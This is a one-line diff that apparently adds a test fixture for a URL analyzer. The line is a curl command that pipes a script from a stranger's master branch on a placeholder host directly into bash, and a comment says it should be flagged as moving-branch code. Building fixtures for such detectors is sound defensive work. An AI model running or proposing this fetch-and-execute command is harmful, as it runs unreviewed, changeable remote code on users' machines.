@@ -1,0 +1,1 @@
+curl -fsSL https://raw.githubusercontent.example/stranger/tools/master/i.sh | bash # expect: url-analyzer/moving-branch-code
